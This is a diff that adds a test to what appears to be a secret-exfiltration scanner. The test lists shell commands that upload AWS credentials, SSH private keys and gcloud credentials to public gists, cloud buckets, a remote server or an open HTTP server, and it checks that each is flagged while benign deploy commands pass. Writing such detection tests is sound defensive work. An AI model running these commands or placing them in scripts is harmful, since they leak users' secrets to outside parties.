@@ -98,6 +98,25 @@ def test_python_two_import_hops(tmp_path: Path) -> None:
     assert not _blocked(tmp_path / "b", files)
 
 
+def test_shell_uploads_to_storage_shares_and_servers(tmp_path: Path) -> None:
+    shapes = [
+        "gh gist create --public ~/.aws/credentials",
+        "aws s3 cp ~/.ssh/id_rsa s3://bucket-example/k/",
+        "gsutil cp ~/.config/gcloud/credentials.db gs://bucket-example/",
+        "rclone copy ~/.ssh remote:backup",
+        "tar cz ~/.ssh | ssh backup@198.51.100.3 'cat > k.tgz'",
+        "cd ~ && python3 -m http.server 8000 --bind 0.0.0.0 &",
+    ]
+    for i, cmd in enumerate(shapes):
+        assert "SY-FLOW-001" in _blocked(tmp_path / f"bad{i}", {"run.sh": f"#!/bin/sh\n{cmd}\n"}), cmd
+    good = (
+        "#!/bin/sh\ngh gist create notes.md\naws s3 cp dist/app.tgz s3://bucket-example/\n"
+        "rclone sync site/ remote:www\ntar cz dist | ssh deploy@www.example.invalid 'tar xz'\n"
+        "cd docs && python3 -m http.server 8000\n"
+    )
+    assert not _blocked(tmp_path / "good", {"run.sh": good})
+
+
 # ---------------------------------------------------------------- commands inside other files
 
 
